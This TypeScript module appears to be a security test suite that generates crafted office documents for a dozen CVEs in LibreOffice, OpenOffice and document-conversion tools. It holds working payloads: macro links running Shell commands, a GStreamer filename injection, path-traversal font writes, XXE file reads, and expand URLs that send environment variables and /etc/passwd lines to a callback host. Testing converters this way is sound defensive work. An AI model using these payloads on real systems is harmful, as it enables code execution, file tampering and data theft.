/** Holes of LibreOffice, of OpenOffice and of libraries that read documents. */
import { harmless, refused } from '../attacks/attack.ts';
import { smallPng, zipOf } from '../attacks/bytes.ts';
import { both, docx, flat, odf, rels, schema, types, wordNames, xml } from '../attacks/office-files.ts';
import { byFile, type Cve } from './cve.ts';

const slow = { seconds: 90 } as const;
/** An image that is not in the document. */
const linked = (id: string): string =>
  `<w:p><w:r><w:drawing xmlns:wp="${schema}/drawingml/2006/wordprocessingDrawing"><wp:inline><wp:extent cx="999999" cy="999999"/><wp:docPr id="1" name="a"/><a:graphic xmlns:a="${schema}/drawingml/2006/main"><a:graphicData uri="${schema}/drawingml/2006/picture"><pic:pic xmlns:pic="${schema}/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="999999" cy="999999"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const linkedDocument = (...targets: readonly string[]): Buffer =>
  docx(
    targets.map((_, index) => linked(`rId${index + 1}`)).join(''),
    targets.map((target) => ['image', target, true] as const),
  );
const events = (place: string): string =>
  `<office:scripts xmlns:ooo="http://openoffice.org/2004/office"><office:event-listeners>${[
    'dom:load',
    'office:start-app',
    'dom:DOMFocusIn',
    'ooo:OnLayoutFinished',
  ]
    .map(
      (name) =>
        `<script:event-listener script:language="ooo:script" script:event-name="${name}" xlink:href="${place}" xlink:type="simple"/>`,
    )
    .join('')}</office:event-listeners></office:scripts>`;
const link = (place: string): string => `<text:p><text:a xlink:type="simple" xlink:href="${place}">a</text:a></text:p>`;
const shell = '&quot;touch&quot;,&quot;/tmp/hostile-macro&quot;';

export const officeHoles: readonly Cve[] = [
  byFile(
    ['CVE-2026-55229', 'Gotenberg', 'An image of a DOCX that is a link is fetched, from the network or from the disk.'],
    harmless('', 'docx pdf', ({ image, call }) => linkedDocument(`file://${image}`, image, call), slow),
  ),
  byFile(
    ['CVE-2025-55151', 'Stirling-PDF', 'What a document links to is fetched from any address when LibreOffice prints it.'],
    harmless(
      '',
      'odt pdf',
      (lure) =>
        odf(
          'text',
          both(
            lure,
            (place) =>
              `<text:p><draw:frame svg:width="4cm" svg:height="4cm"><draw:image xlink:href="${place}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="a"><text:section-source xlink:href="${place}"/><text:p>old</text:p></text:section>`,
          ),
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-11849', 'mammoth', 'An image of a DOCX that is a link to a file is read and written into the page; a device has no end.'],
    harmless('', 'docx html', ({ file, image }) => linkedDocument(image, `file://${file}`, '/dev/zero', 'file:///dev/random'), slow),
  ),
  byFile(
    ['CVE-2022-3140', 'LibreOffice', 'A link with a scheme of its own runs a macro with any arguments.'],
    harmless(
      '',
      'odt pdf',
      () => {
        const place = `vnd.libreoffice.command:macro:///Shell(${shell})`;
        return odf('text', link(place), events(place));
      },
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-1080', 'LibreOffice', 'An address within such a link runs a macro.'],
    harmless(
      '',
      'docx pdf',
      () =>
        docx('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>', [
          ['hyperlink', `vnd.libreoffice.command:ofv|u|macro:///Shell(${shell})`, true],
        ]),
      slow,
    ),
  ),
  byFile(
    ['GHSA-cmm4-pc7p-g834', 'Apache OpenOffice', 'Links that events follow run macros without a question.'],
    harmless(
      '',
      'odt docx',
      () => {
        const place = `macro:///Shell(${shell})`;
        return odf('text', `${link(place)}${link('vnd.sun.star.script:a.b?language=Basic&amp;location=document')}`, events(place));
      },
      slow,
    ),
    'https://github.com/advisories/GHSA-cmm4-pc7p-g834',
  ),
  byFile(
    ['CVE-2023-2255', 'LibreOffice', 'A floating frame loads another document without a question.'],
    harmless(
      '',
      'odt pdf',
      (lure) =>
        odf(
          'text',
          both(
            lure,
            (place) =>
              `<text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:floating-frame xlink:href="${place}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
          ),
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2023-6185', 'LibreOffice', 'The name of a video is a part of a pipeline of GStreamer, which writes files.'],
    harmless(
      '',
      'odp pdf',
      () => {
        const name = 'Media/a.mp4 ! filesink location=/tmp/hostile-video';
        return odf(
          'presentation',
          `<draw:page draw:name="a"><draw:frame svg:width="9cm" svg:height="9cm"><draw:plugin xlink:href="${name}" xlink:type="simple" draw:mime-type="application/vnd.sun.star.media"/></draw:frame></draw:page>`,
          '',
          { [name]: 'video' },
        );
      },
      slow,
    ),
  ),
  byFile(
    ['CVE-2024-12425', 'LibreOffice', 'The name of a font inside a document is a path, where the font is written.'],
    harmless(
      '',
      'fodt pdf',
      () =>
        flat(
          '<text:p>words</text:p>',
          `<office:font-face-decls><style:font-face style:name="../../../../../../tmp/hostile-font" svg:font-family="../../../../../../tmp/hostile-font"><svg:font-face-src><svg:font-face-uri xlink:type="simple"><svg:font-face-format svg:string="truetype"/><office:binary-data>AAEAAAABAAAAAAAA</office:binary-data></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls>`,
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2024-12426', 'LibreOffice', 'An address that is expanded first sends variables of the environment and lines of settings away.'],
    harmless(
      '',
      'odt pdf',
      ({ call }) =>
        odf(
          'text',
          ['$PATH', `\${HOME}`, `\${file:///etc/passwd::root}`]
            .map(
              (what) =>
                `<text:p><draw:frame svg:width="4cm" svg:height="4cm"><draw:image xlink:href="vnd.sun.star.expand:${call}?${what}"/></draw:frame></text:p>`,
            )
            .join(''),
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2026-63266', 'LibreOffice', 'A cell range that is linked to a database writes a file anywhere.'],
    harmless(
      '',
      'ods xlsx',
      ({ call }) =>
        odf(
          'spreadsheet',
          `<table:table table:name="a"><table:table-row><table:table-cell/></table:table-row></table:table><table:database-ranges><table:database-range table:name="d" table:target-range-address="a.A1:a.B9"/></table:database-ranges><calcext:data-mappings xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0">${[
            'sql',
            'csv',
            'html',
            'base',
          ]
            .map(
              (provider) =>
                `<calcext:data-mapping xlink:href="${provider === 'sql' ? 'sdbc:embedded:firebird?backup=/tmp/hostile-firebird' : call}" calcext:provider="org.libreoffice.calc.${provider}" calcext:data-frequency="1" calcext:id="x" calcext:database-name="d"/><calcext:data-mapping xlink:href="${call}" calcext:provider="${provider}" calcext:id="y" calcext:database-name="d"/>`,
            )
            .join('')}</calcext:data-mappings>`,
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-65482', 'XDocReport', 'External entities in the parts of a DOCX are read.'],
    refused(
      '',
      'docx pdf',
      ({ file }) =>
        zipOf({
          '[Content_Types].xml': types(
            'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
            '/word/document.xml',
          ),
          '_rels/.rels': rels(['officeDocument', 'word/document.xml']),
          'word/document.xml': `${xml}<!DOCTYPE a [<!ENTITY taken SYSTEM "file://${file}">]><w:document ${wordNames}><w:body><w:p><w:r><w:t>&taken;</w:t></w:r></w:p></w:body></w:document>`,
          'word/media/a.png': smallPng(),
        }),
      slow,
    ),
  ),
];
